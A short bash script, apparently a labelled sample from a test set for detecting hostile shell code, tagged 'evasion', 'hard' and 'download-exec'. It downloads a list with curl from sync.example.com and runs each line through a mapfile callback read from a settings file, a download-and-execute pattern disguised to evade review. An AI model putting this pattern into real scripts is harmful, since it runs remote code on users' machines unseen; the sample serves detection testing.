#!/usr/bin/env bash
# evasion: runs downloaded lines with bash: the mapfile callback is read from a settings file at run time, so the code it runs for each line is not known
# grade: hard; does: download-exec
# Runs downloaded lines with bash: the mapfile callback is read from a
# settings file at run time, so the code it runs for each line is not known.
read -r hook < "${XDG_CONFIG_HOME:-$HOME/.config}/sync/hook"
curl -fsSL https://sync.example.com/list > /tmp/list.txt
mapfile -t -c 1 -C "$hook" entries < /tmp/list.txt
